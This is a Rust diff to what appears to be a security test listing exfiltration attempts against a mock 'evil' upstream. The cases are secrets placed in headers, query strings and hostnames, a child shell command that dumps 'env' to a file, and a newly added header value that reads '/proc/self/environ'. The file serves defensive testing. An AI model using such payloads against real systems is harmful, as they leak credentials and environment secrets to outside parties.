@@ -38,6 +38,10 @@ fn attacks(evil: &Mockup, authority: &TokenServer, proof: &str) -> Vec<(&'static
     vec![
         ("header", upstream("header", json!({ "url": url, "headers": { "x": secret } }))),
         ("query", upstream("query", json!({ "url": format!("{url}?key={secret}") }))),
+        (
+            "secret-file",
+            upstream("secret-file", json!({ "url": url, "headers": { "x": "${file:/proc/self/environ}" } })),
+        ),
         ("host", upstream("host", json!({ "url": format!("http://{secret}.example/") }))),
         ("servers", json!({ "mcpServers": { "servers": { "url": url, "headers": { "x": secret } } } })),
         ("child", upstream("child", json!({ "command": "sh", "args": ["-c", format!("env > {proof}")] }))),
